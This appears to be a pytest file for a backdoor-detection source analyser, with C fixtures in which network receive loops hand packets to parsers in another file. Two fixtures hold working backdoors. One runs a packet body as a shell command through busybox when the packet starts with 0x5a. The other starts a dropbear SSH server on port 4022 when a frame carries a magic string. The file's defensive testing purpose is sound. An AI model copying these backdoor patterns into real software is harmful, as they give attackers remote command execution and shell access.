"""Remote input handed to a function of another C file (a receive loop passing its packet to a
parser): the parser's parameter is input there, so what it runs or grants on that data is found
with the whole path; the same parser fed by the program's own data stays silent."""
from __future__ import annotations

from pathlib import Path

from nobackdoor.analyzers.source.standalone import analyse_directory

MAIN_C = """#include <sys/socket.h>
#include "proto.h"
static unsigned char g_rxbuf[1500];
int main(void)
{
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    for (;;) {
        int n = recvfrom(s, g_rxbuf, sizeof(g_rxbuf), 0, NULL, NULL);
        if (n > 0)
            handle_packet(s, g_rxbuf, (size_t)n);
    }
}
"""

PROTO_C = """#include <string.h>
#include <unistd.h>
#include "proto.h"
static char g_diag[256];
int handle_packet(int sock, const unsigned char *buf, size_t len)
{
    const unsigned char *body = buf + 4;
    if (len > 4 && buf[0] == 0x5a) {
        char *argv[] = { "/bin/busybox", "sh", "-c", g_diag, NULL };
        memcpy(g_diag, body, len - 4 < 255 ? len - 4 : 255);
        if (fork() == 0)
            execve(argv[0], argv, NULL);
    }
    return 0;
}
"""


def _tree(tmp_path: Path, main: str) -> Path:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "main.c").write_text(main)
    (tmp_path / "src" / "proto.c").write_text(PROTO_C)
    (tmp_path / "src" / "proto.h").write_text("int handle_packet(int sock, const unsigned char *buf, size_t len);\n")
    return tmp_path


def test_packet_handed_to_another_files_parser_runs_as_a_command(tmp_path):
    run = analyse_directory(_tree(tmp_path, MAIN_C))
    got = [f for f in run.findings if f.severity.value in ("high", "critical")]
    assert [(f.rule, f.path) for f in got] == [("source.request-executed", "src/proto.c")]
    # the evidence names where the input came from, in the other file
    assert "src/main.c:10" in got[0].message and "recvfrom" in got[0].message


def test_the_same_parser_fed_from_a_local_file_is_silent(tmp_path):
    local = MAIN_C.replace("recvfrom(s, g_rxbuf, sizeof(g_rxbuf), 0, NULL, NULL)", "read_config(g_rxbuf)")
    run = analyse_directory(_tree(tmp_path, local))
    assert [f.rule for f in run.findings if f.severity.value in ("high", "critical")] == []


RX_C = """#include <sys/socket.h>
#include "frame.h"
static int read_full(int fd, unsigned char *p, size_t len)
{
    size_t got = 0;
    while (got < len) {
        ssize_t r = recv(fd, p + got, len - got, 0);
        if (r <= 0)
            return -1;
        got += (size_t)r;
    }
    return 0;
}
void rx_loop(int fd)
{
    unsigned char buf[512];
    for (;;) {
        int c = accept(fd, NULL, NULL);
        while (read_full(c, buf, 64) == 0)
            frame_input(buf, 64);
    }
}
"""

FRAME_C = """#include <string.h>
#include <unistd.h>
int frame_input(const unsigned char *pkt, size_t n)
{
    if (n > 12 && memcmp(pkt + 2, "qolvenda42", 10) == 0) {
        if (fork() == 0)
            execl("/usr/sbin/dropbear", "dropbear", "-B", "-F", "-p", "4022", (char *)NULL);
        return 0;
    }
    return -1;
}
"""


def test_packet_read_by_a_recv_wrapper_and_parsed_in_another_file(tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "rx.c").write_text(RX_C)
    (tmp_path / "src" / "frame.c").write_text(FRAME_C)
    run = analyse_directory(tmp_path)
    got = [(f.rule, f.path) for f in run.findings if f.severity.value in ("high", "critical")]
    assert got == [("source.magic-input-command", "src/frame.c")]
    # the wrapper reading a local file instead of a socket hands no remote input
    (tmp_path / "src" / "rx.c").write_text(RX_C.replace("recv(fd, p + got, len - got, 0)", "read(fd, p + got, len - got)"))
    run = analyse_directory(tmp_path)
    assert [f.rule for f in run.findings if f.severity.value in ("high", "critical")] == []
